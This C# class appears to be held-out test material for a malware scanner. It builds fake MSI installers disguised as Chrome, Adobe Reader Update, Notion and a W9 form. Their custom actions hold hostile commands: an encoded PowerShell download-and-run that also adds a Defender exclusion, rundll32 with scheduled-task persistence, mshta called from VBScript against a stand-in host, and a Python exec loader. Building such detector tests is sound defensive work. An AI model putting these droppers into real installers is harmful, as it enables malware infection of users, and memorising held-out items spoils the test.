using static ScanHost.TestKit.HeldOut.Eighth.EighthForms;

namespace ScanHost.TestKit.HeldOut.Eighth;

/// <summary>Windows Installer packages whose actions do the work.</summary>
public sealed class InstallerActions : EighthRound
{
    /// <inheritdoc/>
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        var program = new EighthImage { Is64 = false, IsLibrary = true }.Runtime().Importing("WININET.dll", "InternetOpenW InternetConnectW HttpOpenRequestW HttpSendRequestW InternetReadFile").Importing("KERNEL32.dll", "VirtualAlloc VirtualProtect CreateThread").Exporting("ca.dll", "LogSetupAfterInstall").Section(".pk", Noise(20000, 41), 0xE0000060).Build();
        yield return ("ChromeSetup_x64.msi", Installer("Google Chrome", "Google LLC", Utf8("readme"), "RunPs\t34\tTARGETDIR\tpowershell.exe -NoLogo -NonInteractive -NoProfile -ExecutionPolicy Bypass -WindowStyle Hidden -EncodedCommand " + Encoded("Invoke-WebRequest http://192.0.2.71/u.zip -OutFile $env:TEMP\\u.zip; Expand-Archive $env:TEMP\\u.zip $env:APPDATA\\u; Start-Process $env:APPDATA\\u\\client32.exe; Add-MpPreference -ExclusionPath $env:APPDATA")));
        yield return ("Form_W9_Ver-i-42-9.msi", Installer("Form W9", "Digital Forms", program, "LaunchDll\t1\tPayload\tLogSetupAfterInstall", "RunReg\t3170\tINSTALLDIR\tcmd.exe /c rundll32.exe \"%LOCALAPPDATA%\\sharepoint\\inner.bin\",LogSetupAfterInstall & schtasks /create /tn Sync /tr \"rundll32 inner.bin,a\" /sc minute /mo 5"));
        yield return ("AdobeReaderUpdate.msi", Installer("Adobe Reader Update", "Adobe", Utf8("a"), "a7\t38\t\tSet o = CreateObject(\"WScr\" & \"ipt.Shell\") : o.Run \"cmd /c msh\" & \"ta https://reader-update.example/x\", 0 : Set o = Nothing"));
        yield return ("NotionSetup.msi", Installer("Notion", "Notion Labs Inc", InertFiles.Zip(("python.exe", program), ("run.py", Utf8("import base64,zlib\nexec(zlib.decompress(base64.b85decode(open('data.bin','rb').read())))\n")), ("data.bin", Noise(4000, 6))), "x1\t51\tCMDX\t[SystemFolder]cmd.exe", "x2\t50\tCMDX\t/c tar -xf \"[INSTALLDIR]inner.bin\" -C %LOCALAPPDATA% && start /b %LOCALAPPDATA%\\python.exe %LOCALAPPDATA%\\run.py"));
    }
}
